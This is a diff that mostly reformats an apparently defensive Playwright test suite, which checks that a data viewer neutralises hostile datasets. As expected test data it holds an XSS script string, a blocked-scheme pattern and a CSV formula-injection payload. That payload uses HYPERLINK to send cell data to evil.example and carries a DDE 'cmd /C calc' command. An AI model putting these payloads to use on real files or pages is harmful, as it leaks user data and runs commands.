@@ -9,14 +9,31 @@ import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Browser } from 'playwright-core';
 import type { HostileFixture } from './fixtures/hostile.js';
-import { DESKTOP, describeViolations, horizontalOverflow, launchBrowser, openWatched, PHONE, runAxe, screenshot, serve, sites, tmpRoot, visit, type Served, type Watched } from './support.js';
+import {
+  DESKTOP,
+  describeViolations,
+  horizontalOverflow,
+  launchBrowser,
+  openWatched,
+  PHONE,
+  runAxe,
+  screenshot,
+  serve,
+  sites,
+  tmpRoot,
+  visit,
+  type Served,
+  type Watched,
+} from './support.js';
 
 let browser: Browser;
 let server: Served;
 let fixture: HostileFixture;
 
 beforeAll(async () => {
-  fixture = JSON.parse(fs.readFileSync(path.join(tmpRoot, 'hostile-fixture.json'), 'utf8')) as HostileFixture;
+  fixture = JSON.parse(
+    fs.readFileSync(path.join(tmpRoot, 'hostile-fixture.json'), 'utf8'),
+  ) as HostileFixture;
   server = await serve(sites.hostile);
   browser = await launchBrowser();
 });
@@ -33,13 +50,32 @@ async function inspect(w: Watched) {
     const all = [...document.querySelectorAll('*')];
     return {
       pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
-      scripts: [...document.scripts].map((s) => s.getAttribute('src') ?? `inline: ${s.textContent?.slice(0, 60)}`),
-      handlers: all.flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName}[${a.name}]`)),
+      scripts: [...document.scripts].map(
+        (s) => s.getAttribute('src') ?? `inline: ${s.textContent?.slice(0, 60)}`,
+      ),
+      handlers: all.flatMap((el) =>
+        [...el.attributes]
+          .filter((a) => /^on/i.test(a.name))
+          .map((a) => `${el.tagName}[${a.name}]`),
+      ),
       // Our own stylesheet is the one link allowed.
-      embeds: [...document.querySelectorAll('iframe, object, embed, img, style, link[rel~="stylesheet"], base, meta[http-equiv="refresh"]')]
-        .filter((el) => !(el.matches('link[rel~="stylesheet"]') && /^\.\/assets\/[\w.-]+\.css$/.test(el.getAttribute('href') ?? '')))
+      embeds: [
+        ...document.querySelectorAll(
+          'iframe, object, embed, img, style, link[rel~="stylesheet"], base, meta[http-equiv="refresh"]',
+        ),
+      ]
+        .filter(
+          (el) =>
+            !(
+              el.matches('link[rel~="stylesheet"]') &&
+              /^\.\/assets\/[\w.-]+\.css$/.test(el.getAttribute('href') ?? '')
+            ),
+        )
         .map((el) => el.outerHTML.slice(0, 120)),
-      links: [...document.querySelectorAll('a[href]')].map((a) => ({ href: a.getAttribute('href')!, rel: a.getAttribute('rel') ?? '' })),
+      links: [...document.querySelectorAll('a[href]')].map((a) => ({
+        href: a.getAttribute('href')!,
+        rel: a.getAttribute('rel') ?? '',
+      })),
       svgLinks: [...document.querySelectorAll('svg a')].map((a) => a.getAttribute('href') ?? ''),
       langs: [...document.querySelectorAll('[lang]')].map((el) => el.getAttribute('lang')!),
       bodyDisplay: getComputedStyle(document.body).display,
@@ -89,21 +125,38 @@ describe('a hostile dataset', () => {
         expect(w.foreignRequests, `${where}: requests to other origins`).toEqual([]);
         expect(w.consoleProblems, `${where}: console (CSP reports appear here)`).toEqual([]);
         expect(w.pageErrors, `${where}: uncaught errors`).toEqual([]);
-        expect(dom.scripts.every((s) => /^\.\/assets\/[\w.-]+\.js$/.test(s)), `${where}: scripts ${dom.scripts.join(', ')}`).toBe(true);
+        expect(
+          dom.scripts.every((s) => /^\.\/assets\/[\w.-]+\.js$/.test(s)),
+          `${where}: scripts ${dom.scripts.join(', ')}`,
+        ).toBe(true);
         expect(dom.handlers, `${where}: event handler attributes`).toEqual([]);
         expect(dom.embeds, `${where}: embedded content`).toEqual([]);
         for (const { href, rel } of dom.links) {
-          if (/^https?:\/\//i.test(href)) expect(rel.split(/\s+/).sort(), `${where}: rel of ${href}`).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
-          else expect(href, `${where}: link`).toMatch(/^(#\/|#main$|downloads\/|data\/bundle\.json$|CHANGELOG\.md$|blob:)/);
+          if (/^https?:\/\//i.test(href))
+            expect(rel.split(/\s+/).sort(), `${where}: rel of ${href}`).toEqual(
+              expect.arrayContaining(['noopener', 'noreferrer']),
+            );
+          else
+            expect(href, `${where}: link`).toMatch(
+              /^(#\/|#main$|downloads\/|data\/bundle\.json$|CHANGELOG\.md$|blob:)/,
+            );
         }
-        for (const href of dom.svgLinks) expect(href, `${where}: chart link`).toMatch(/^#\/claim\//);
-        for (const lang of dom.langs) expect(lang, `${where}: lang`).toMatch(/^[a-z]{2,3}(-[A-Za-z0-9]{2,8})*$/);
+        for (const href of dom.svgLinks)
+          expect(href, `${where}: chart link`).toMatch(/^#\/claim\//);
+        for (const lang of dom.langs)
+          expect(lang, `${where}: lang`).toMatch(/^[a-z]{2,3}(-[A-Za-z0-9]{2,8})*$/);
         expect(dom.bodyDisplay, `${where}: injected CSS`).not.toBe('none');
-        expect(await horizontalOverflow(w.page), `${where}: horizontal overflow (px)`).toBeLessThanOrEqual(0);
+        expect(
+          await horizontalOverflow(w.page),
+          `${where}: horizontal overflow (px)`,
+        ).toBeLessThanOrEqual(0);
         const checked = Date.now();
         await screenshot(w.page, `hostile-${name}-${label}`);
         await w.context.close();
-        if (process.env.VIEWER_TEST_TIMINGS) console.log(`${name} ${label}: checks ${checked - started} ms, screenshot ${Date.now() - checked} ms`);
+        if (process.env.VIEWER_TEST_TIMINGS)
+          console.log(
+            `${name} ${label}: checks ${checked - started} ms, screenshot ${Date.now() - checked} ms`,
+          );
       }
     }, 240_000);
   }
@@ -113,7 +166,9 @@ describe('a hostile dataset', () => {
     await visit(w, server.url, claim(fixture.claims.huge));
     const quote = w.page.locator('blockquote');
     const text = (await quote.textContent())!;
-    expect(text.length).toBe(100_000 + '<script>window.__pwned = "script"; alert(1)</script>'.length);
+    expect(text.length).toBe(
+      100_000 + '<script>window.__pwned = "script"; alert(1)</script>'.length,
+    );
     expect(text.startsWith('<script>window.__pwned')).toBe(true);
     const box = (await quote.boundingBox())!;
     expect(box.width).toBeLessThanOrEqual(PHONE.width);
@@ -124,7 +179,9 @@ describe('a hostile dataset', () => {
     // A javascript: address is shown, never linked.
     await visit(w, server.url, `#/source/${fixture.sources.badUrl}`);
     const dom = await inspect(w);
-    expect(dom.links.some((l) => /script:|^data:|^vbscript:|^file:|^\/\//i.test(l.href.trim()))).toBe(false);
+    expect(
+      dom.links.some((l) => /script:|^data:|^vbscript:|^file:|^\/\//i.test(l.href.trim())),
+    ).toBe(false);
     expect(w.foreignRequests).toEqual([]);
     await w.context.close();
   });
@@ -140,9 +197,14 @@ describe('a hostile dataset', () => {
   it('escapes formulas in the CSV of the filtered view', async () => {
     const w = await openWatched(browser, server.url, DESKTOP, { acceptDownloads: true });
     await visit(w, server.url, `#/claims?source=${fixture.claims.formula.split('/')[0]}`);
-    const [download] = await Promise.all([w.page.waitForEvent('download'), w.page.click('#csv-button')]);
+    const [download] = await Promise.all([
+      w.page.waitForEvent('download'),
+      w.page.click('#csv-button'),
+    ]);
     const csv = fs.readFileSync((await download.path())!, 'utf8');
-    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"") +cmd|' /C calc'!A0 @SUM(1) -2+3"`);
+    expect(csv).toContain(
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"") +cmd|' /C calc'!A0 @SUM(1) -2+3"`,
+    );
     expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
     await w.context.close();
   });
